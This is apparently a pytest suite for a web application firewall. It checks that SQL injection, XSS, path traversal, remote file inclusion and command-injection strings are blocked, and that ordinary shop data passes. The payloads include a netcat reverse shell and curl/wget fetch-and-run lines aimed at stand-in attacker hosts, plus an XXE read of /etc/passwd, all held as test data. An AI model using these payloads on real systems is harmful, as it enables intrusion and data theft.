"""Application firewall engine: each family blocked with real attack strings, benign traffic passes."""

from __future__ import annotations

import json
import time
from urllib.parse import quote, urlencode

import pytest

from bindery.security.waf.engine import Firewall
from bindery.security.waf.exclusions import Exclusion
from bindery.security.waf.request import WafRequest

HEADERS = (("Host", "shop.example"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"),
           ("Accept", "text/html,application/json"))


def get(query: dict[str, str] | str, *, headers: tuple[tuple[str, str], ...] = HEADERS,
        path: str = "/catalog/") -> WafRequest:
    qs = query if isinstance(query, str) else urlencode(query)
    return WafRequest("GET", path, qs, headers)


def post_json(body: object, path: str = "/api/v1/products") -> WafRequest:
    data = json.dumps(body).encode()
    return WafRequest("POST", path, "", (*HEADERS, ("Content-Type", "application/json"),
                                         ("Content-Length", str(len(data)))), data, len(data))


@pytest.fixture(scope="module")
def waf() -> Firewall:
    return Firewall(paranoia=1, threshold=5)


ATTACKS = {
    "sqli": ["1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "admin'--",
             "1; DROP TABLE products", "1' AND SLEEP(5)#", "' or 1=1 limit 1 -- -+",
             "1 AND extractvalue(1,concat(0x7e,version()))", "x' UnIoN/**/SeLeCt 1,2,3--"],
    "xss": ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.cookie)>",
            "javascript:alert(1)", "\"><iframe src=//evil.example>", "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"],
    "lfi": ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/shadow", "/proc/self/environ",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "php://filter/convert.base64-encode/resource=index.php"],
    "rfi": ["http://203.0.113.7/shell.txt?", "https://198.51.100.2/x.php", "ftp://192.0.2.9/evil.txt"],
    "command": [";cat /etc/passwd", "| nc -e /bin/sh 203.0.113.7 4444", "$(curl http://evil.example/x|sh)",
                "`id`", "127.0.0.1 && whoami", "; wget http://evil.example/x -O /tmp/x", "c'a't /e\"tc/pa\"sswd",
                "cmd.exe /c dir", "; powershell -enc SQBFAFgA"],
}


@pytest.mark.parametrize(("family", "payload"), [(f, p) for f, ps in ATTACKS.items() for p in ps])
def test_attacks_are_blocked_in_query_json_and_cookie(waf: Firewall, family: str, payload: str) -> None:
    """A real attack string is blocked wherever it travels: query, JSON body, cookie."""
    for request in (get({"q": payload}), post_json({"sku": "A", "name": payload}),
                    WafRequest("GET", "/", "", (*HEADERS, ("Cookie", f"pref={quote(payload)}")))):
        verdict = waf.inspect(request)
        assert verdict.blocked, (payload, request)
        assert family in verdict.families or family in {"rfi", "lfi"}, (payload, verdict.rules)


def test_double_encoding_is_decoded(waf: Firewall) -> None:
    """%253Cscript%253E is <script> after two rounds of decoding."""
    assert waf.inspect(get("q=%253Cscript%253Ealert(1)%253C%252Fscript%253E")).blocked
    assert waf.inspect(get("f=%252e%252e%252f%252e%252e%252fetc%252fpasswd")).blocked


def test_scanner_user_agents_are_blocked_and_ordinary_clients_pass(waf: Firewall) -> None:
    for agent in ("sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6)", "nuclei", "masscan/1.3"):
        assert waf.inspect(get("", headers=(("Host", "x"), ("User-Agent", agent)))).blocked, agent
    for agent in ("curl/8.5.0", "python-requests/2.32.3", "Wget/1.21", "Mozilla/5.0 (iPhone) Safari/604.1",
                  "Bindery-Connector/1.0"):
        assert not waf.inspect(get("", headers=(("Host", "x"), ("User-Agent", agent)))).blocked, agent


def test_xml_and_multipart_bodies_are_inspected(waf: Firewall) -> None:
    xml = b"<?xml version='1.0'?><product><name>x' UNION SELECT password FROM users--</name></product>"
    assert waf.inspect(WafRequest("POST", "/api/v1/x", "", (*HEADERS, ("Content-Type", "application/xml")),
                                  xml, len(xml))).blocked
    body = (b"--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<script>alert(1)</script>\r\n"
            b"--b--\r\n")
    assert waf.inspect(WafRequest("POST", "/x", "", (*HEADERS, ("Content-Type", "multipart/form-data; boundary=b")),
                                  body, len(body))).blocked
    traversal = (b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"../../etc/passwd\"\r\n\r\n"
                 b"x\r\n--b--\r\n")
    assert waf.inspect(WafRequest("POST", "/x", "", (*HEADERS, ("Content-Type", "multipart/form-data; boundary=b")),
                                  traversal, len(traversal))).blocked


def test_protocol_anomalies(waf: Firewall) -> None:
    """Smuggling shapes, unknown methods and content types are refused; GET with a body too."""
    assert waf.inspect(WafRequest("TRACK", "/", "", HEADERS)).blocked
    assert waf.inspect(WafRequest("POST", "/", "", (*HEADERS, ("Content-Length", "5"), ("Content-Length", "7")),
                                  b"a=1&b", 5)).blocked
    assert waf.inspect(WafRequest("POST", "/", "", (*HEADERS, ("Content-Type", "application/x-evil"),
                                                    ("Content-Length", "3")), b"a=1", 3)).blocked
    assert waf.inspect(WafRequest("GET", "/", "", (*HEADERS, ("Content-Length", "3")), b"a=1", 3)).blocked


BENIGN_VALUES = [
    "O'Brien, Via dell'Unione 1", "Select Drop Earrings — Union Square", "Rock 'n' Roll T-shirt",
    "Ruby Red Dress", "Python Leather Bag", "Open Toe Sandals", "Cat bed; dog bed", "Black & Decker drill",
    "Version (2019)", "Size: S;M;L;XL", "50% off — today only!", "Café Zürich, Straße 5", "D'Angelo & Sons",
    "Mother's Day gift set", "Order by phone or e-mail", "select from our range of bags",
    "C:\\Users\\shop\\exports", "1/2\" pipe, 3/4\" fitting", "Drop-down menu; select the size", "user@example.com",
    "https://cdn.example.com/img/p1.jpg?w=300", "Tom & Jerry DVD — 2 discs", "Nike | Air Max 90",
    "Note: price=10, stock=5", "It's 5 o'clock", "«Grand Hotel» — Via Roma 12/A, 00100 Roma",
    "Bed 160x200 (queen); linen", "Where's my order #1001?", "SELECT Comfort Mattress", "L'Oréal Paris",
]


@pytest.mark.parametrize("value", BENIGN_VALUES)
def test_benign_values_pass(waf: Firewall, value: str) -> None:
    """Ordinary shop data passes in the query, a form body and a JSON body with zero blocks."""
    form = urlencode({"name": value}).encode()
    for request in (get({"q": value}), post_json({"sku": "A1", "name": value, "notes": value}),
                    WafRequest("POST", "/customers/new/", "", (*HEADERS, ("Content-Type",
                               "application/x-www-form-urlencoded"), ("Content-Length", str(len(form)))),
                               form, len(form))):
        verdict = waf.inspect(request)
        assert not verdict.blocked, (value, verdict.matches)


HTML_DESCRIPTION = ("<h2>Select Drop Earrings — Union Square</h2><p>Hand-made by O'Brien &amp; Co. "
                    "<a href=\"https://shop.example/care\">Care guide</a></p><img src=\"/media/e1.jpg\" "
                    "alt=\"earrings\"><ul><li>Drop: 4 cm</li><li>Select from 3 colours</li></ul>")


def test_html_description_passes_only_where_declared(waf: Firewall) -> None:
    """A product description may hold HTML on routes that declare it; elsewhere markup is suspect."""
    body = {"sku": "E1", "name": "Select Drop Earrings — Union Square", "description_html": HTML_DESCRIPTION}
    allowed = Exclusion(fields={"description_html": frozenset({"xss"})})
    assert not waf.inspect(post_json(body), allowed).blocked
    assert waf.inspect(post_json({"sku": "E1", "name": HTML_DESCRIPTION}), allowed).blocked
    # The exclusion only lifts XSS for that field: SQL injection in it is still caught.
    body["description_html"] = "<p>x</p>' UNION SELECT password FROM users--"
    assert waf.inspect(post_json(body), allowed).blocked


def test_csv_and_xml_uploads_with_shop_content_pass(waf: Firewall) -> None:
    csv_text = ("sku,name,address,description_html\n"
                "E1,Select Drop Earrings — Union Square,\"O'Brien, Via dell'Unione 1\",\"<p>Hand-made</p>\"\n")
    body = (b"--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"products.csv\"\r\n"
            b"Content-Type: text/csv\r\n\r\n" + csv_text.encode() + b"\r\n--b--\r\n")
    assert not waf.inspect(WafRequest("POST", "/imports/", "", (*HEADERS, ("Content-Type",
                           "multipart/form-data; boundary=b")), body, len(body))).blocked
    xml = ("<?xml version='1.0' encoding='utf-8'?><products><product sku='E1'><name>Select Drop Earrings — Union "
           "Square</name><address>O'Brien, Via dell'Unione 1</address></product></products>").encode()
    assert not waf.inspect(WafRequest("POST", "/api/v1/import", "", (*HEADERS, ("Content-Type", "application/xml")),
                                      xml, len(xml))).blocked


def test_passwords_are_not_pattern_inspected(waf: Firewall) -> None:
    """A real password may read like SQL; it is hashed, never interpreted."""
    form = urlencode({"email": "a@b.example", "password": "' OR 1=1 -- <script>"}).encode()
    assert not waf.inspect(WafRequest("POST", "/login/", "", (*HEADERS, ("Content-Type",
                           "application/x-www-form-urlencoded")), form, len(form))).blocked


@pytest.mark.parametrize("body", [b"{not json", b"\xff\xfe\x00garbage", b"[" * 5000 + b"]" * 5000,
                                  b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
                                  b"--b\r\nno headers here", b"a" * 300_000])
@pytest.mark.parametrize("content_type", ["application/json", "application/xml", "multipart/form-data; boundary=b",
                                          "multipart/form-data", "application/x-www-form-urlencoded"])
def test_hostile_bodies_never_raise(waf: Firewall, body: bytes, content_type: str) -> None:
    """Malformed, hostile and oversized bodies get a verdict, never an exception."""
    waf.inspect(WafRequest("POST", "/api/v1/products", "", (*HEADERS, ("Content-Type", content_type)), body,
                           len(body)))


def test_inspection_is_linear_and_bounded(waf: Firewall) -> None:
    """Inputs that make backtracking engines explode (minutes to hours) finish; the budget bounds the rest.

    The limits are loose on purpose (the suite runs beside other work on two cores): they catch
    exponential blow-ups, not milliseconds. bench/waf_score.py measures the real inspection times.
    """
    for value in ("a" * 100_000 + "!", "'" * 50_000, "<" * 50_000, "(" * 30_000 + "x", "/.." * 20_000,
                  "select " * 10_000):
        started = time.perf_counter()
        waf.inspect(get({"q": value}))
        assert time.perf_counter() - started < 5, value[:20]
    many = post_json({"items": [{"sku": f"S{i}", "name": f"Name {i} O'Brien"} for i in range(20_000)]})
    verdict = Firewall(paranoia=1, threshold=5, budget=0.02).inspect(many)
    assert verdict.truncated  # over the default 5,000 values: not inspected, so refused by the middleware
    assert verdict.elapsed < 5
    budget = Firewall(paranoia=1, threshold=5, budget=0.002).inspect(many, Exclusion(max_values=10**6))
    assert budget.uninspected.startswith("inspection budget of 2 ms CPU ran out after ")
    assert budget.elapsed < 5


def test_paranoia_levels_add_rules() -> None:
    """Level 2 catches what level 1 lets through; the threshold decides."""
    request = get({"q": "a SELECT name FROM users"})
    assert not Firewall(paranoia=1).inspect(request).blocked
    assert Firewall(paranoia=2).inspect(request).blocked
    assert not Firewall(paranoia=2, threshold=100).inspect(request).blocked


def test_a_garbage_collection_during_inspection_is_not_charged_to_the_request() -> None:
    """A collection of a big heap (hundreds of ms) does not use up one request's budget.

    A million objects in reference cycles are allocated while the collector is off, so the
    first allocation after it is back on starts collecting them all; without the pause that
    happens inside the inspection, which would spend its 50 ms on collecting. CI once refused a
    300 KB order "after 0 values" this way.
    """
    import gc

    body = {"rows": [{"sku": f"SKU-{n}", "name": f"Row {n}", "qty": n} for n in range(300)]}
    request = post_json(body, "/api/v1/orders")
    firewall = Firewall(paranoia=1, threshold=5, budget=0.05)
    thresholds = gc.get_threshold()
    gc.collect()
    gc.disable()
    heap = [[] for _ in range(1_000_000)]
    for item in heap:
        item.append(item)  # a cycle: only the cyclic collector can look at it
    gc.set_threshold(1, 1, 1)
    gc.enable()
    try:
        verdict = firewall.inspect(request)
        started = time.thread_time()
        gc.collect()
        collected_in = time.thread_time() - started
    finally:
        gc.set_threshold(*thresholds)
        del heap
        gc.collect()
    assert collected_in > 0.05, "the heap is too small to prove anything"
    assert verdict.uninspected == "", verdict.uninspected
    assert not verdict.blocked
    assert gc.isenabled()
